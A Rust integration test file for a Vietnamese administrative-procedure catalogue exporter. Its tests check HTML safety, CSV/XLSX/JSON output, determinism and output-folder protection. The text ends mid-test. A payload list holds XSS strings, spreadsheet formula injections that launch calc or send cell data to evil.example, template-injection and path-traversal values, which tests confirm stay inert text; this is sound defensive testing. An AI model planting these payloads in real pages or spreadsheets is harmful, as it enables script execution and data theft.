//! The public listing: every format on the sample, read back by real parsers; hostile content
//! that must stay inert; determinism; the output folder's safety; template overrides.

mod common;

use common::{Sandbox, stdout, write_sample};
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs;
use std::io::Read;
use std::path::Path;
use tthc::export::{self, ExportInput, Format, MemorySink};
use tthc::model::{
    Agencies, Agency, Channel, ChannelKind, DossierDocument, DossierGroup, Fee, FeeKind, Field,
    Interlinked, LegalDocument, Level, OnlineMode, OnlineService, Postal, Procedure,
    ProcessingTime, PublicationRef, TimeUnit,
};
use tthc::store::{self, Catalog};

fn sample() -> (tempfile::TempDir, Catalog) {
    let dir = tempfile::tempdir().unwrap();
    write_sample(dir.path());
    let cat = store::load(dir.path()).unwrap();
    assert!(cat.unparsed.is_empty());
    (dir, cat)
}

fn all_formats() -> ExportInput {
    ExportInput {
        formats: Format::ALL.into_iter().collect(),
        ..ExportInput::default()
    }
}

fn render(cat: &Catalog, input: &ExportInput) -> BTreeMap<String, Vec<u8>> {
    let sink = MemorySink::new();
    let report = export::render(cat, input, &sink).unwrap();
    let files = sink.into_files();
    let mut names: Vec<&String> = files.keys().collect();
    names.sort();
    assert_eq!(
        report.files.iter().collect::<Vec<_>>(),
        names,
        "the report names every file written"
    );
    files
}

fn text(files: &BTreeMap<String, Vec<u8>>, name: &str) -> String {
    String::from_utf8(
        files
            .get(name)
            .unwrap_or_else(|| panic!("{name} missing"))
            .clone(),
    )
    .unwrap()
}

/// One start tag of an HTML page: name and attributes (values unescaped of `&quot;` only).
#[derive(Debug)]
struct Tag {
    name: String,
    closing: bool,
    attrs: Vec<(String, String)>,
}

/// The tags of a page. Catalogue text is escaped, so every `<` in the output starts real markup
/// and every `>` inside an attribute value is escaped: a tokenizer this simple is exact here.
fn tags(html: &str) -> Vec<Tag> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after.find('>').expect("unclosed tag");
        let inner = &after[..end];
        rest = &after[end + 1..];
        if inner.starts_with('!') {
            continue;
        }
        let closing = inner.starts_with('/');
        let inner = inner.trim_start_matches('/').trim_end_matches('/');
        let name_end = inner.find(char::is_whitespace).unwrap_or(inner.len());
        let name = inner[..name_end].to_ascii_lowercase();
        let mut attrs = Vec::new();
        let mut a = inner[name_end..].trim();
        while !a.is_empty() {
            let key_end = a.find(['=', ' ']).unwrap_or(a.len());
            let key = a[..key_end].to_ascii_lowercase();
            a = a[key_end..].trim_start();
            let mut value = String::new();
            if let Some(v) = a.strip_prefix('=') {
                let v = v.trim_start();
                assert!(v.starts_with('"'), "unquoted attribute in <{name} {inner}>");
                let close = v[1..].find('"').expect("unclosed attribute value");
                value = v[1..1 + close].to_owned();
                a = v[close + 2..].trim_start();
            }
            attrs.push((key, value));
        }
        out.push(Tag {
            name,
            closing,
            attrs,
        });
    }
    out
}

const VOID: &[&str] = &["meta", "link", "br", "input", "col", "img", "hr"];
const ALLOWED: &[&str] = &[
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "div", "p", "nav",
    "ul", "ol", "li", "main", "h1", "h2", "h3", "footer", "strong", "br", "form", "label", "input",
    "select", "option", "button", "section", "table", "caption", "colgroup", "col", "thead",
    "tbody", "tr", "th", "td", "span", "dl", "dt", "dd", "article", "del", "ins",
];

/// Nothing in `html` can run: only known elements, no event handlers or style attributes, the
/// only script is the site's own file, links go to pages of the site or to plain http(s)
/// addresses; and it is well formed (every element closed in order, ids unique, a label for
/// every control).
fn assert_safe_page(name: &str, html: &str) {
    assert!(
        html.starts_with("<!DOCTYPE html>\n<html lang=\"vi\">"),
        "{name}: doctype and lang"
    );
    assert!(
        html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'self'; style-src 'self';"),
        "{name}: strict CSP"
    );
    let mut stack: Vec<String> = Vec::new();
    let mut ids = std::collections::BTreeSet::new();
    let mut labels = Vec::new();
    let mut controls = Vec::new();
    for tag in tags(html) {
        assert!(
            ALLOWED.contains(&tag.name.as_str()),
            "{name}: <{}>",
            tag.name
        );
        if tag.closing {
            let open = stack.pop();
            assert_eq!(open.as_deref(), Some(tag.name.as_str()), "{name}: nesting");
            continue;
        }
        for (key, value) in &tag.attrs {
            assert!(!key.starts_with("on"), "{name}: event handler {key}");
            assert!(key != "style" && key != "srcdoc", "{name}: {key} attribute");
            let v = value.trim().to_ascii_lowercase();
            assert!(
                !v.starts_with("javascript:")
                    && !v.starts_with("data:")
                    && !v.starts_with("vbscript:"),
                "{name}: {key}={value}"
            );
            if key == "href" || key == "src" {
                assert!(
                    !value.contains(':') || v.starts_with("https://") || v.starts_with("http://"),
                    "{name}: {key}={value}"
                );
            }
            if key == "src" {
                assert!(
                    tag.name == "script" && value.ends_with("assets/site.js"),
                    "{name}: src={value}"
                );
            }
            if key == "id" {
                assert!(ids.insert(value.clone()), "{name}: duplicate id {value}");
            }
            if key == "for" {
                labels.push(value.clone());
            }
        }
        if tag.name == "input" || tag.name == "select" {
            let id = tag
                .attrs
                .iter()
                .find(|(k, _)| k == "id")
                .map(|(_, v)| v.clone());
            controls.push(id.unwrap_or_default());
        }
        if tag.name == "link" {
            assert!(
                tag.attrs
                    .iter()
                    .any(|(k, v)| k == "href" && v.ends_with("assets/style.css"))
            );
        }
        if tag.name == "script" {
            assert!(
                html.contains("assets/site.js\" defer></script>"),
                "{name}: inline script"
            );
        }
        if !VOID.contains(&tag.name.as_str()) {
            stack.push(tag.name);
        }
    }
    assert!(stack.is_empty(), "{name}: unclosed {stack:?}");
    for c in controls {
        assert!(labels.contains(&c), "{name}: control {c} has no label");
    }
}

#[test]
fn sample_site_lists_every_procedure_grouped_with_the_official_columns() {
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let index = text(&files, "index.html");
    assert_safe_page("index.html", &index);
    for col in [
        "STT",
        "Mã thủ tục",
        "Tên thủ tục hành chính",
        "Lĩnh vực",
        "Thời hạn giải quyết",
        "Phí, lệ phí",
        "Cơ quan thực hiện",
        "Dịch vụ công trực tuyến",
        "Bưu chính công ích",
        "Tiếp nhận hồ sơ",
        "Trả kết quả",
    ] {
        assert!(index.contains(&format!(">{col}</th>")), "column {col}");
    }
    // Levels in manifest order, each with its fields.
    let huyen = index.find("I. Thủ tục hành chính cấp huyện").unwrap();
    let xa = index.find("II. Thủ tục hành chính cấp xã").unwrap();
    assert!(huyen < xa);
    assert!(index[xa..].contains("1. Lĩnh vực Hộ tịch"));
    assert_eq!(index.matches("<tr data-s=").count(), cat.procedures.len());
    // Folded search text for the client-side search.
    assert!(index.contains("data-s=\"1.001193  dang ky khai sinh ho tich\""));
    // Every procedure has its page at a URL made of level and code, linked from the index.
    for s in &cat.procedures {
        let href = format!("thu-tuc/{}/{}.html", s.record.level, s.record.code);
        assert!(index.contains(&format!("href=\"{href}\"")), "{href} linked");
        let page = text(&files, &href);
        assert_safe_page(&href, &page);
    }
    assert_safe_page("thay-doi.html", &text(&files, "thay-doi.html"));
    assert!(
        text(&files, "assets/style.css").contains("@media print"),
        "print stylesheet"
    );
    // No external requests: the only URLs with a scheme are links, never sources.
    for (name, bytes) in &files {
        if name.ends_with(".html") || name.ends_with(".css") || name.ends_with(".js") {
            let t = String::from_utf8_lossy(bytes);
            assert!(
                !t.contains("src=\"http") && !t.contains("url(") && !t.contains("@import"),
                "{name}"
            );
        }
    }
}

#[test]
fn a_procedure_page_has_every_section_in_the_official_order() {
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let page = text(&files, "thu-tuc/xa/2.000815.html");
    let headings = [
        "1. Trình tự thực hiện",
        "2. Cách thức thực hiện",
        "3. Thành phần, số lượng hồ sơ",
        "4. Thời hạn giải quyết",
        "5. Đối tượng thực hiện",
        "6. Cơ quan thực hiện",
        "7. Kết quả thực hiện",
        "8. Phí, lệ phí",
        "9. Căn cứ pháp lý",
        "10. Yêu cầu, điều kiện thực hiện",
        "11. Dịch vụ công trực tuyến, bưu chính công ích, liên thông",
    ];
    let mut at = 0;
    for h in headings {
        let pos = page[at..]
            .find(&format!(">{h}</h2>"))
            .unwrap_or_else(|| panic!("{h}"));
        at += pos;
    }
    // Snapshot-like spot checks of the content.
    assert!(page.contains("<h1>Chứng thực bản sao từ bản chính giấy tờ, văn bản do cơ quan, tổ chức có thẩm quyền của Việt Nam cấp hoặc chứng nhận</h1>"));
    assert!(
        page.contains("<th scope=\"row\">Trực tuyến</th>"),
        "a row per channel"
    );
    assert!(
        page.contains("<td class=\"amount\">2.000 đ/trang (trang 1–2); 1.000 đ/trang từ trang 3; tối đa 200.000 đ/bản</td>"),
        "fees table: tiers and the cap in one line"
    );
    assert!(
        page.contains("<td class=\"nowrap\">23/2015/NĐ-CP</td>"),
        "legal basis verbatim"
    );
    assert!(page.contains("<p>Số lượng hồ sơ: 01 bộ.</p>"));
    assert!(page.contains("href=\"../../assets/style.css\""));
    assert!(
        page.contains("<a href=\"../../index.html#cap-xa\">Cấp xã</a>"),
        "breadcrumb"
    );
}

#[test]
fn csv_reads_back_with_bom_and_every_procedure() {
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let bytes = &files["danh-muc-tthc.csv"];
    assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "BOM for Excel");
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(
        &header[..4],
        ["STT", "Mã thủ tục", "Mã địa phương", "Tên thủ tục"]
    );
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cat.procedures.len());
    let row = rows.iter().find(|r| &r[1] == "1.001193").unwrap();
    assert_eq!(&row[3], "Đăng ký khai sinh");
    assert_eq!(&row[4], "Cấp xã");
    assert_eq!(&row[5], "Hộ tịch");
    assert_eq!(&row[17], "thu-tuc/xa/1.001193.html");
    let stt: Vec<usize> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    assert_eq!(stt, (1..=rows.len()).collect::<Vec<_>>());
}

fn xlsx_part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut s = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
    s
}

#[test]
fn xlsx_has_a_sheet_per_level_with_a_frozen_header() {
    use calamine::{Data, Reader, Xlsx};
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let bytes = files["danh-muc-tthc.xlsx"].clone();
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
    assert_eq!(book.sheet_names(), ["Cấp huyện", "Cấp xã"]);
    let range = book.worksheet_range("Cấp xã").unwrap();
    let rows: Vec<Vec<Data>> = range.rows().map(<[Data]>::to_vec).collect();
    assert_eq!(rows[0][0], Data::String("STT".into()));
    assert_eq!(rows[0][1], Data::String("Mã thủ tục".into()));
    let xa = cat
        .procedures
        .iter()
        .filter(|s| s.record.level == "xa")
        .count();
    assert_eq!(rows.len(), xa + 1);
    let khai_sinh = rows
        .iter()
        .find(|r| r[1] == Data::String("1.001193".into()))
        .unwrap();
    assert_eq!(khai_sinh[3], Data::String("Đăng ký khai sinh".into()));
    for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        let xml = xlsx_part(&bytes, sheet);
        assert!(
            xml.contains("state=\"frozen\"") && xml.contains("topLeftCell=\"A2\""),
            "{sheet}"
        );
        assert!(!xml.contains("<f>"), "no formulas");
    }
}

/// A check of a JSON value against the subset of JSON Schema that export-schema-v2.json uses.
/// Every keyword the schema holds must be one this checker understands, so nothing is skipped.
fn check_schema(schema: &Value, root: &Value, v: &Value, at: &str, errors: &mut Vec<String>) {
    let Value::Object(s) = schema else {
        panic!("schema at {at} is not an object")
    };
    for key in s.keys() {
        assert!(
            [
                "$schema",
                "$id",
                "title",
                "description",
                "type",
                "properties",
                "required",
                "additionalProperties",
                "items",
                "enum",
                "const",
                "$ref",
                "oneOf",
                "minimum",
                "maximum",
                "format",
                "pattern",
                "$defs"
            ]
            .contains(&key.as_str()),
            "unknown schema keyword {key}"
        );
    }
    if let Some(Value::String(r)) = s.get("$ref") {
        let name = r.strip_prefix("#/$defs/").expect("local refs only");
        return check_schema(&root["$defs"][name], root, v, at, errors);
    }
    if let Some(types) = s.get("type") {
        let types: Vec<&str> = match types {
            Value::String(t) => vec![t.as_str()],
            Value::Array(ts) => ts.iter().map(|t| t.as_str().unwrap()).collect(),
            _ => panic!(),
        };
        let ok = types.iter().any(|t| match *t {
            "object" => v.is_object(),
            "array" => v.is_array(),
            "string" => v.is_string(),
            "integer" => v.is_i64() || v.is_u64(),
            "boolean" => v.is_boolean(),
            "null" => v.is_null(),
            other => panic!("type {other}"),
        });
        if !ok {
            errors.push(format!("{at}: expected {types:?}, found {v}"));
            return;
        }
    }
    if let Some(c) = s.get("const")
        && c != v
    {
        errors.push(format!("{at}: expected {c}"));
    }
    if let Some(Value::Array(options)) = s.get("enum")
        && !options.contains(v)
    {
        errors.push(format!("{at}: {v} not in {options:?}"));
    }
    if let Some(Value::Array(options)) = s.get("oneOf") {
        let passing = options
            .iter()
            .filter(|o| {
                let mut e = Vec::new();
                check_schema(o, root, v, at, &mut e);
                e.is_empty()
            })
            .count();
        if passing != 1 {
            errors.push(format!("{at}: {passing} of oneOf match"));
        }
    }
    if let (Some(min), Some(n)) = (s.get("minimum").and_then(Value::as_i64), v.as_i64())
        && n < min
    {
        errors.push(format!("{at}: {n} < {min}"));
    }
    if let (Some(max), Some(n)) = (s.get("maximum").and_then(Value::as_i64), v.as_i64())
        && n > max
    {
        errors.push(format!("{at}: {n} > {max}"));
    }
    if let (Some(_), Some(text)) = (s.get("format").or(s.get("pattern")), v.as_str()) {
        // The only format and pattern the schema uses: a date YYYY-MM-DD.
        if text.parse::<jiff::civil::Date>().is_err() || text.len() != 10 {
            errors.push(format!("{at}: {text} is not a date"));
        }
    }
    if let Value::Object(obj) = v {
        let props = s.get("properties").and_then(Value::as_object);
        if let Some(Value::Array(required)) = s.get("required") {
            for r in required {
                if !obj.contains_key(r.as_str().unwrap()) {
                    errors.push(format!("{at}: missing {r}"));
                }
            }
        }
        for (k, val) in obj {
            match props.and_then(|p| p.get(k)) {
                Some(sub) => check_schema(sub, root, val, &format!("{at}.{k}"), errors),
                None if s.get("additionalProperties") == Some(&Value::Bool(false)) => {
                    errors.push(format!("{at}: unexpected key {k}"))
                }
                None => {}
            }
        }
    }
    if let (Value::Array(items), Some(item_schema)) = (v, s.get("items")) {
        for (i, item) in items.iter().enumerate() {
            check_schema(item_schema, root, item, &format!("{at}[{i}]"), errors);
        }
    }
}

fn schema_errors(doc: &Value) -> Vec<String> {
    let schema: Value = serde_json::from_str(export::JSON_SCHEMA).unwrap();
    let mut errors = Vec::new();
    check_schema(&schema, &schema, doc, "$", &mut errors);
    errors
}

#[test]
fn json_matches_its_own_schema_and_ships_it() {
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let shipped = text(&files, "export-schema-v2.json");
    let repo_copy = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/export-schema-v2.json"),
    )
    .unwrap();
    assert_eq!(shipped, repo_copy);
    let doc: Value = serde_json::from_slice(&files["danh-muc-tthc.json"]).unwrap();
    assert_eq!(schema_errors(&doc), Vec::<String>::new());
    assert_eq!(doc["$schema"], "export-schema-v2.json");
    assert_eq!(
        doc["procedures"].as_array().unwrap().len(),
        cat.procedures.len()
    );
    let item = doc["procedures"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["record"]["code"] == "1.001193")
        .unwrap();
    assert_eq!(item["url"], "thu-tuc/xa/1.001193.html");
    assert_eq!(item["field_name"], "Hộ tịch");
    let record = &cat.procedure("xa", "1.001193").unwrap().record;
    assert_eq!(item["record"], serde_json::to_value(record).unwrap());

    // The check is not vacuous: a stray key or a wrong type is caught.
    let mut bad = doc.clone();
    bad["procedures"][0]["record"]["colour"] = "red".into();
    bad["procedures"][1]["record"]["postal"]["receive"] = "yes".into();
    assert_eq!(schema_errors(&bad).len(), 2, "{:?}", schema_errors(&bad));
}

#[test]
fn jsonld_uses_the_cpsv_ap_vocabulary() {
    let (_dir, cat) = sample();
    let files = render(&cat, &all_formats());
    let doc: Value = serde_json::from_slice(&files["danh-muc-tthc.jsonld"]).unwrap();
    assert_eq!(doc["@context"]["cpsv"], "http://purl.org/vocab/cpsv#");
    assert_eq!(doc["@context"]["cv"], "http://data.europa.eu/m8g/");
    let graph = doc["@graph"].as_array().unwrap();
    let services: Vec<&Value> = graph
        .iter()
        .filter(|n| n["@type"] == "cpsv:PublicService")
        .collect();
    assert_eq!(services.len(), cat.procedures.len());
    let s = services
        .iter()
        .find(|n| n["dct:identifier"] == "2.000815" && n["@id"] == "thu-tuc/xa/2.000815.html")
        .unwrap();
    assert_eq!(s["dct:title"]["@language"], "vi");
    for key in [
        "dct:description",
        "cv:hasCompetentAuthority",
        "cv:thematicArea",
        "cv:hasCost",
        "cv:hasChannel",
        "cpsv:hasInput",
        "cpsv:produces",
        "cv:hasLegalResource",
    ] {
        assert!(!s[key].is_null(), "{key}");
    }
    assert_eq!(s["cv:hasCost"][0]["cv:hasValue"], 2000);
    assert_eq!(
        s["cv:hasLegalResource"][0]["dct:identifier"],
        "23/2015/NĐ-CP"
    );
    // The competent authority is a PublicOrganisation node of the graph.
    let authority = s["cv:hasCompetentAuthority"]["@id"].as_str().unwrap();
    assert!(
        graph
            .iter()
            .any(|n| n["@id"] == authority && n["@type"] == "cv:PublicOrganisation")
    );
    // Plain durations are ISO 8601; working days are not plain, so they get none.
    let durations: Vec<&str> = services
        .iter()
        .filter_map(|n| n["cv:processingTime"]["@value"].as_str())
        .collect();
    assert!(durations.iter().all(|d| d.starts_with('P')));
    let working = services
        .iter()
        .find(|n| n["dct:identifier"] == "1.004873")
        .unwrap();
    assert!(working["cv:processingTime"].is_null());
    assert!(
        working["tthc:processingTimeText"]["@value"]
            .as_str()
            .unwrap()
            .contains("ngày làm việc")
    );
}

const PAYLOADS: &[&str] = &[
    "<script>alert('xss')</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "</style><style>body{display:none}</style>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm vào\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "</textarea></title><svg onload=alert(1)>",
    "\t=1+1",
];

struct Hostile(usize);

impl Hostile {
    fn next(&mut self) -> tthc::model::Text {
        self.0 += 1;
        PAYLOADS[self.0 % PAYLOADS.len()].into()
    }
}

/// The sample's manifest and one procedure with a payload in every text field and every id
/// that is not a file name; and one whose code would escape the site folder.
fn hostile_catalog(dir: &Path) -> Catalog {
    write_sample(dir);
    let mut cat = store::load(dir).unwrap();
    let mut h = Hostile(0);
    let m = &mut cat.manifest;
    m.authority.name = h.next().to_string();
    m.authority.province = Some(h.next().to_string());
    m.authority.address = Some(h.next().to_string());
    m.publication.site_title = Some(h.next().to_string());
    m.publication.contact = Some(h.next().to_string());
    m.levels.push(Level {
        id: "evil".into(),
        name: h.next().to_string(),
    });
    m.fields.push(Field {
        id: h.next().to_string(),
        name: h.next().to_string(),
        code: Some(h.next().to_string()),
    });
    m.agencies.push(Agency {
        id: "evil-agency".into(),
        name: h.next().to_string(),
        address: Some(h.next().to_string()),
    });
    let field_id = m.fields.last().unwrap().id.clone();
    let fee = |h: &mut Hostile| Fee {
        kind: FeeKind::Fee,
        amount: Some(1000),
        text: Some(h.next()),
        unit: Some(h.next()),
        tiers: vec![tthc::model::FeeTier {
            from: Some(1),
            to: Some(2),
            amount: Some(2000),
        }],
        max: Some(200_000),
        max_unit: Some(h.next()),
        condition: Some(h.next()),
        online_payment: Some(true),
        exemptions: Some(h.next()),
    };
    let p = Procedure {
        code: "1.999999".into(),
        local_code: Some(h.next()),
        name: h.next(),
        level: "evil".into(),
        field: field_id.into(),
        kind: Some(h.next()),
        steps: vec![h.next(), h.next()],
        channels: vec![
            Channel {
                kind: ChannelKind::Online,
                description: Some(h.next()),
                processing_time: Some(ProcessingTime {
                    value: Some(2),
                    unit: TimeUnit::Days,
                    note: Some(h.next()),
                }),
                fees: Some(vec![fee(&mut h)]),
            },
            Channel {
                kind: ChannelKind::InPerson,
                description: Some(h.next()),
                processing_time: None,
                fees: None,
            },
        ],
        dossier: vec![DossierGroup {
            title: Some(h.next()),
            documents: vec![DossierDocument {
                name: h.next(),
                form: Some(h.next()),
                form_file: Some("javascript:alert(1)".into()),
                replaced_by_data: Some(h.next()),
                originals: 1,
                copies: 2,
                note: Some(h.next()),
            }],
            sets: Some(1),
        }],
        processing_time: ProcessingTime {
            value: Some(3),
            unit: TimeUnit::WorkingDays,
            note: Some(h.next()),
        },
        subjects: vec![h.next()],
        agencies: Agencies {
            competent: Some("evil-agency".into()),
            implementing: vec!["evil-agency".into(), h.next()],
            authorised: vec![h.next()],
            coordinating: vec![h.next()],
            address: Some(h.next()),
        },
        results: vec![h.next()],
        fees: Some(vec![fee(&mut h), fee(&mut h)]),
        legal_basis: Some(vec![LegalDocument {
            number: h.next(),
            title: h.next(),
            date: Some(jiff::civil::date(2020, 1, 1)),
            issuer: Some(h.next()),
            articles: Some(h.next()),
            amended_by: vec![h.next()],
            ..LegalDocument::default()
        }]),
        requirements: Some(h.next()),
        online_service: OnlineService {
            mode: OnlineMode::Full,
            legacy_level: Some(4),
            url: Some("javascript:alert(document.domain)".into()),
            services: vec![tthc::model::OnlineServiceEntry {
                code: h.next(),
                name: Some(h.next()),
                mode: OnlineMode::Full,
                url: Some("javascript:alert(2)".into()),
            }],
            ..OnlineService::default()
        },
        committed_time: Some(ProcessingTime {
            value: Some(2),
            unit: TimeUnit::WorkingDays,
            note: Some(h.next()),
        }),
        internal_process: vec![tthc::model::ProcessStep {
            step: h.next(),
            unit: Some(h.next()),
            days: Some(1),
            hours: None,
        }],
        result_template: Some(h.next()),
        interlinked: Interlinked {
            enabled: true,
            linked: vec![h.next()],
        },
        postal: Postal {
            receive: true,
            return_result: true,
        },
        publication: Some(PublicationRef {
            decision: h.next(),
            date: Some(jiff::civil::date(2021, 1, 1)),
            kind: tthc::model::PublicationKind::New,
        }),
        replaces: vec![tthc::model::ProcedureRef::same_level(&h.next())],
        replaced_by: vec![tthc::model::ProcedureRef::new(&h.next(), &h.next())],
        notes: Some(h.next()),
        ..Procedure::default()
    };
    let mut escaping = p.clone();
    escaping.code = "../../../escaped".into();
    for (path, record) in [
        ("procedures/evil/1.999999.yaml", p),
        ("procedures/evil/x.yaml", escaping),
    ] {
        cat.procedures.push(store::Stored {
            path: path.into(),
            record,
        });
    }
    cat
}

#[test]
fn hostile_content_stays_text_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let cat = hostile_catalog(dir.path());
    let mut input = all_formats();
    // The change list reaches the "what changed" page too.
    input.changes.changes = export::changes::compute(None, (&cat, None));
    let sink = MemorySink::new();
    let report = export::render(&cat, &input, &sink).unwrap();
    let files = sink.into_files();
    assert_eq!(report.skipped.len(), 1, "{:?}", report.skipped);
    assert!(
        files
            .keys()
            .all(|f| !f.contains("..") && !f.contains("escaped"))
    );
    assert!(files.contains_key("thu-tuc/evil/1.999999.html"));

    for (name, bytes) in &files {
        let t = String::from_utf8_lossy(bytes);
        if name.ends_with(".html") {
            assert_safe_page(name, &t);
            // The payloads are there, as text.
            assert!(
                !t.contains("<img") && !t.contains("<svg") && !t.contains("<style"),
                "{name}"
            );
        }
    }
    let page = text(&files, "thu-tuc/evil/1.999999.html");
    assert!(page.contains("&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;"));
    assert!(
        page.contains("{{ 7 * 7 }}"),
        "template syntax in data is not evaluated"
    );
    assert!(
        page.contains("javascript:alert(document.domain)"),
        "shown as text, not a link"
    );
    assert_eq!(
        text(&files, "assets/style.css"),
        tthc::export::DEFAULT_STYLE
    );
    assert_eq!(text(&files, "assets/site.js"), tthc::export::DEFAULT_SCRIPT);

    // CSV: no cell a spreadsheet would run.
    let csv_bytes = &files["danh-muc-tthc.csv"];
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv_bytes[3..]);
    let mut cells = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula in CSV: {cell:?}"
            );
        }
    }
    assert!(cells > 100);
    // A payload that starts a formula reached a cell, neutralised (which payload lands in a
    // cell depends on the order the fields draw them).
    let text = String::from_utf8_lossy(csv_bytes);
    assert!(
        ["'=HYPERLINK", "'+cmd", "'-2+3", "'@SUM"]
            .iter()
            .any(|p| text.contains(p))
    );

    // XLSX: text cells only, no formula anywhere; the payload kept verbatim as text.
    use calamine::{Data, Reader, Xlsx};
    let x = files["danh-muc-tthc.xlsx"].clone();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(x.clone())).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        let mut s = String::new();
        if part.read_to_string(&mut s).is_ok() {
            assert!(
                !s.contains("<f>") && !s.contains("<f "),
                "formula in {:?}",
                part.name()
            );
        }
    }
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(x)).unwrap();
    // The third sheet is the hostile level's, named from its (sanitised) name.
    let sheet = book.sheet_names()[2].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    assert!(
        range
            .rows()
            .skip(1)
            .flatten()
            .any(|c| matches!(c, Data::String(s) if PAYLOADS.contains(&s.as_str())))
    );
    assert!(
        book.worksheet_formula(&sheet)
            .unwrap()
            .used_cells()
            .next()
            .is_none()
    );

    // JSON and JSON-LD carry the text exactly.
    let doc: Value = serde_json::from_slice(&files["danh-muc-tthc.json"]).unwrap();
    let item = doc["procedures"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["record"]["code"] == "1.999999")
        .unwrap();
    let record = &cat.procedure("evil", "1.999999").unwrap().record;
    assert_eq!(item["record"], serde_json::to_value(record).unwrap());
    let _: Value = serde_json::from_slice(&files["danh-muc-tthc.jsonld"]).unwrap();
}

#[test]
fn identical_input_gives_identical_bytes() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    for out in ["a", "b"] {
        sb.tthc(&dir)
            .args(["export", "--out", &format!("../{out}")])
            .assert()
            .success();
    }
    let read = |root: &Path| -> BTreeMap<String, Vec<u8>> {
        let mut files = BTreeMap::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in fs::read_dir(&d).unwrap() {
                let p = e.unwrap().path();
                if p.is_dir() {
                    stack.push(p);
                } else {
                    let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
                    files.insert(rel, fs::read(&p).unwrap());
                }
            }
        }
        files
    };
    let a = read(&sb.path().join("a"));
    let b = read(&sb.path().join("b"));
    assert!(a.len() > 50);
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (name, bytes) in &a {
        assert!(bytes == &b[name], "{name} differs");
    }
}

#[test]
fn export_never_replaces_a_folder_it_did_not_make() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    let precious = sb.path().join("documents");
    fs::create_dir(&precious).unwrap();
    fs::write(precious.join("letter.txt"), "keep").unwrap();
    let out = sb
        .tthc(&dir)
        .args(["export", "--format", "csv", "--out", "../documents"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(common::stderr(&out).contains("không phải bản xuất trước"));
    assert_eq!(
        fs::read_to_string(precious.join("letter.txt")).unwrap(),
        "keep"
    );
    assert_eq!(fs::read_dir(&precious).unwrap().count(), 1);
    // An earlier export is replaced as a whole; nothing is left beside it.
    sb.tthc(&dir)
        .args(["export", "--out", "../site"])
        .assert()
        .success();
    fs::write(sb.path().join("site/stale.html"), "old").unwrap();
    sb.tthc(&dir)
        .args(["export", "--format", "html,csv", "--out", "../site"])
        .assert()
        .success();
    assert!(!sb.path().join("site/stale.html").exists());
    assert!(!sb.path().join("site/danh-muc-tthc.xlsx").exists());
    assert!(sb.path().join("site/danh-muc-tthc.csv").exists());
    let beside: Vec<String> = fs::read_dir(sb.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(beside.is_empty(), "{beside:?}");
}

#[test]
fn templates_are_overridden_from_the_catalogue() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    fs::create_dir_all(dir.join("templates/assets")).unwrap();
    let base = include_str!("../src/export/templates/base.html").replace(
        "<body class=\"page-{{ page }}\">",
        "<body class=\"page-{{ page }} phuong-a\">",
    );
    fs::write(dir.join("templates/base.html"), base).unwrap();
    fs::write(
        dir.join("templates/assets/style.css"),
        "body { color: #111; }\n",
    )
    .unwrap();
    fs::write(
        dir.join("templates/assets/logo.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    )
    .unwrap();
    sb.tthc(&dir)
        .args(["export", "--format", "html", "--out", "../site"])
        .assert()
        .success();
    let index = fs::read_to_string(sb.path().join("site/index.html")).unwrap();
    assert!(index.contains("phuong-a"));
    assert_eq!(
        fs::read_to_string(sb.path().join("site/assets/style.css")).unwrap(),
        "body { color: #111; }\n"
    );
    assert!(sb.path().join("site/assets/logo.svg").exists());
    // A broken template is named, and the previous export stays.
    fs::write(dir.join("templates/index.html"), "{% for x in %}").unwrap();
